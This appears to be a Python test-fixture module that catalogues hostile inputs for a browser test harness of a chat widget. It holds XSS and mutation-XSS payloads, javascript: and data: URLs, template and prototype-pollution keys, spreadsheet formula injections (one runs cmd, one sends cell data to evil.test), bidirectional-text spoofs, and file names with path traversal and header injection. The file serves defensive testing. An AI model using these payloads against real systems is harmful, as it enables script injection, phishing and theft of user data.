"""What hostile people write: texts, names and addresses as data, each with what it tries.

A text that gets its way calls `pwned(...)` or asks `evil.test` for something; both are seen
by `tests.browser.judge`. Invisible characters are written as escapes, so that a reader of
this file sees what it says.

Source: OWASP, "XSS Filter Evasion Cheat Sheet" and "CSV Injection"; Unicode Technical Report
36, "Unicode Security Considerations"; Unicode Standard Annex 9, sections 2 and 3.3.
"""

from __future__ import annotations

import attrs

__all__ = [
    "ADDRESSES",
    "CODES",
    "FILE_NAMES",
    "NAMES",
    "STAFF_NAMES",
    "TEXTS",
    "TURNING",
    "Case",
    "text_of",
]

RLO, LRO, PDF = "\u202e", "\u202d", "\u202c"
RLI, LRI, FSI, PDI = "\u2067", "\u2066", "\u2068", "\u2069"
ZWSP, ZWJ, BOM, OBJECT = "\u200b", "\u200d", "\ufeff", "\ufffc"
FAMILY = f"👩🏽{ZWJ}👩🏿{ZWJ}👧🏻{ZWJ}👦"
ZALGO = "Z" + "\u0336\u0321\u0489\u0315\u0338" * 60


@attrs.frozen
class Case:
    """Name a text by the abuse that it stands for."""

    abuse: str
    text: str


def text_of(abuse: str) -> str:
    """Return the text of the case that stands for an abuse."""
    return next(case.text for case in TEXTS if case.abuse == abuse)


def _cases(**texts: str) -> tuple[Case, ...]:
    return tuple(Case(abuse, text) for abuse, text in texts.items())


SCRIPTS = _cases(
    script="<script>pwned('script')</script>",
    script_case="<ScRiPt >pwned('case')</sCrIpT >",
    script_split="<scr<script>ipt>pwned('split')</scr</script>ipt>",
    script_remote="<script src=//evil.test/x.js></script>",
    script_module="<script type=module>import('//evil.test/m.js')</script>",
    img_error="<img src=x onerror=pwned('img')>",
    img_slashes="<img/src/onerror=pwned('slash')//>",
    img_remote='<img src="http://evil.test/pixel.png" width=1 height=1>',
    svg_load="<svg onload=pwned('svg')>",
    svg_script="<svg><script>pwned('svg-script')</script></svg>",
    svg_animate="<svg><a><animate attributeName=href values=javascript:pwned(1) /></a></svg>",
    svg_use="<svg><use href=\"data:image/svg+xml,<svg id='x' onload='pwned(2)'/>#x\"/></svg>",
    svg_foreign="<svg><foreignObject><iframe srcdoc='<script>pwned(3)</script>'/></svg>",
    iframe_source="<iframe src=javascript:pwned('frame')></iframe>",
    iframe_document="<iframe srcdoc='<script>parent.pwned(4)</script>'></iframe>",
    object_data="<object data='data:text/html,<script>parent.pwned(5)</script>'></object>",
    embed_source="<embed src='//evil.test/e.swf'>",
    style_import="<style>@import '//evil.test/x.css'; * { display: none !important }</style>",
    style_attribute='<p style="position:fixed;inset:0;background:url(//evil.test/s)">x</p>',
    link_sheet="<link rel=stylesheet href=//evil.test/l.css>",
    base_address="<base href='http://evil.test/'>",
    meta_refresh="<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    form_action="<form action=//evil.test/><input name=p><button autofocus>Sign in</button></form>",
    form_clobber="<form id=desk><input name=attributes><input name=nodeName></form>",
    input_focus="<input autofocus onfocus=pwned('focus')>",
    details_toggle="<details open ontoggle=pwned('toggle')>",
    video_source="<video><source onerror=pwned('video')></video>",
    marquee="<marquee onstart=pwned('marquee')>",
    body_load="<body onload=pwned('body')>",
    custom_element="<ccsdk-chat account=web open></ccsdk-chat><slot name=x></slot>",
)

BREAKS = _cases(
    quote_double='"><img src=x onerror=pwned(6)>',
    quote_single="'><img src=x onerror=pwned(7)>",
    quote_backtick="`><img src=x onerror=pwned(8)>",
    attribute='" onmouseover="pwned(9)" autofocus onfocus="pwned(9)" x="',
    script_end="</script><script>pwned(10)</script>",
    comment_end="--><img src=x onerror=pwned(11)><!--",
    comment_odd="<!--><img src=x onerror=pwned(12)>-->",
    cdata="<![CDATA[><img src=x onerror=pwned(13)>]]>",
    title_end="</title></textarea></style></noscript><img src=x onerror=pwned(14)>",
    json_end='"}],"role":"supervisor","x":"</script><script>pwned(15)</script>',
    entities="&lt;img src=x onerror=pwned(16)&gt; &#60;script&#62; &amp;lt;",
    nul_tag="<scr\0ipt>pwned(17)</scr\0ipt>",
    overlong="<" * 500 + "b" + ">" * 500,
)

MUTATIONS = _cases(
    mutation_math="<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=pwned(18)&gt;'>",
    mutation_noscript='<noscript><p title="</noscript><img src=x onerror=pwned(19)>">',
    mutation_template="<template><style></template><img src=x onerror=pwned(20)></style>",
    mutation_svg='<svg></p><style><a id="</style><img src=1 onerror=pwned(21)>">',
    mutation_annotation="<math><annotation-xml encoding='text/html'><img src=x onerror=pwned(22)>",
)

URLS = _cases(
    javascript="javascript:pwned('url')",
    javascript_case="JaVaScRiPt:pwned('url')",
    javascript_tab="java\tscript:pwned('url')",
    javascript_break="java\nscript:pwned('url')",
    javascript_control="\x01javascript:pwned('url')",
    javascript_entity="&#106;avascript&colon;pwned('url')",
    javascript_slashes="javascript://evil.test/%0Apwned('url')",
    vbscript="vbscript:msgbox(1)",
    data_html="data:text/html,<script>pwned('data')</script>",
    data_base64="data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    link_quote='https://shop.example/"onmouseover="pwned(23)',
    link_userinfo="https://shop.example@evil.test/login",
    link_backslash="https://shop.example\\@evil.test/",
    link_homograph="https://\u0430pple.com/ and https://xn--pple-43d.com/",
    link_turned=f"{RLO}https://evil.test/moc.elpmaxe.pohs//:sptth{PDF}",
    link_inside=f"https://evil.test/{RLO}moc.elpmaxe.pohs//:sptth",
    link_bare="http://[::1 https://%zz https:// http://a:99999/ https://evil.test:0/",
    markdown_link="[click me](javascript:pwned('markdown')) ![x](http://evil.test/pixel.png)",
    markdown_break="[a](https://shop.example 'x\" onclick=pwned(24)') <https://evil.test/>",
)

TEMPLATES = _cases(
    braces="{{constructor.constructor('pwned(25)')()}} {customer} {0} {name}",
    dollar="${pwned(26)} $& $1 $` #{7*7} <%= 7*7 %> ${{<%[%'\"}}%\\",
    percent="%s %d %n %x %(name)s %%",
    prototype="__proto__",
    constructor="constructor",
    prototype_json='{"__proto__": {"isOwn": true}, "constructor": {"prototype": {}}}',
    formula='=HYPERLINK("http://evil.test/?"&A1,"click")',
    formula_command="=cmd|' /C calc'!A0",
    formula_plus="+1+1",
    formula_minus="-1+1|cmd",
    formula_at="@SUM(1+1)",
    slash_command="/end @everyone @Mei Lin @constructor",
)

TURNING = _cases(
    override=f"Ann{RLO}kcab drawkcab",
    override_many=RLO * 20 + "abc",
    isolate_open=f"Ann {RLI} never closed {LRI}{FSI}",
    isolate_close=f"Ann {PDI}{PDI}{PDI}{PDF}{PDF} {RLO}evil",
    override_left=f"{LRO}שלום{PDF} Ann",
    mixed="שלום Ann, كيف الحال 12:30 (a.b) – 好的!",
    right_to_left="عميل جديد 123",
)

SHAPES = _cases(
    zero_width=f"A{ZWSP}n{ZWSP}n{BOM}\u2060\u00ad\u180e",
    invisible=ZWSP * 5,
    blank_letters="\u3164\u2800\u115f",
    object_replacement=OBJECT * 3,
    zalgo=" ".join([ZALGO] * 3),
    zalgo_word=ZALGO * 3,
    word="W" * 2_000,
    word_wide="㍿" * 600,
    breaks="top" + "\n" * 500 + "bottom",
    breaks_odd="a\r\nb\rc\u2028d\u2029e\x0bf\x0cg\x85h",
    families=FAMILY * 40,
    flags="🇦" * 101 + "\u20e3" * 30,
    controls="".join(map(chr, range(1, 32))) + "\x7f\x9b31mred",
    nul="be\0fore",
    tags="A\U000e0041\U000e0042\U000e007f",
    noncharacters="\uffff\ufdd0\U0010ffff",
    tall="﷽" * 50 + "𒐫" * 30 + "꧅" * 30,
)

TEXTS = (*SCRIPTS, *BREAKS, *MUTATIONS, *URLS, *TEMPLATES, *TURNING, *SHAPES)

NAMES = (
    *TURNING,
    *_cases(
        script="<script>pwned('name')</script>",
        image='"><img src=x onerror=pwned("name")>',
        entity="&lt;b&gt;Ann&lt;/b&gt;",
        system_line="Agent has left the chat",
        system_time="Mei Lin joined the chat 12:30",
        verified="Ann ✓ Verified customer",
        long_word="W" * 200,
        long_emoji="😀" * 200,
        family=(FAMILY * 30)[:200],
        zalgo=ZALGO[:200],
        invisible=ZWSP * 3,
        blank=" ",
        filler="\u3164",
        breaks="Ann\n\n\n\nBob",
        prototype="__proto__",
        constructor="constructor",
        braces="{{7*7}} {name} $& %s",
        formula="=1+1",
        url="https://evil.test/",
    ),
)

STAFF_NAMES = {
    "mei": f"<img src=x onerror=pwned('staff')>{RLO}nil ieM",
    "tomas": "W" * 200,
    "amara": "😀" * 200,
    "jonas": "=HYPERLINK(1)",
    "lucia": "__proto__",
    "ada": f"Ada{RLO}avoN{PDI}",
}

# Where a person or a setting names a code, it may be one that every object has already.
CODES = ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf")

ADDRESSES = _cases(
    markup='"<script>pwned(1)</script>"@evil.test',
    attribute="a\"onfocus='pwned(2)'autofocus@evil.test",
    long="a" * 200 + "@evil.test",
)

FILE_NAMES = _cases(
    markup="<img src=x onerror=pwned('file')>.txt",
    quotes="a\"onerror=pwned(1) b='.txt",
    turned=f"invoice{RLO}txt.exe",
    path="..\\..\\../../etc/passwd.txt",
    header="a\r\nset-cookie: pwned=1\r\n.txt",
    zalgo=ZALGO[:90] + ".txt",
    long="n" * 250 + ".txt",
    emoji="📄" * 100 + ".txt",
    formula="=1+1.txt",
    hidden=".htaccess.txt",
    device="con.txt",
    percent="%00%2e%2e%2f.txt",
)
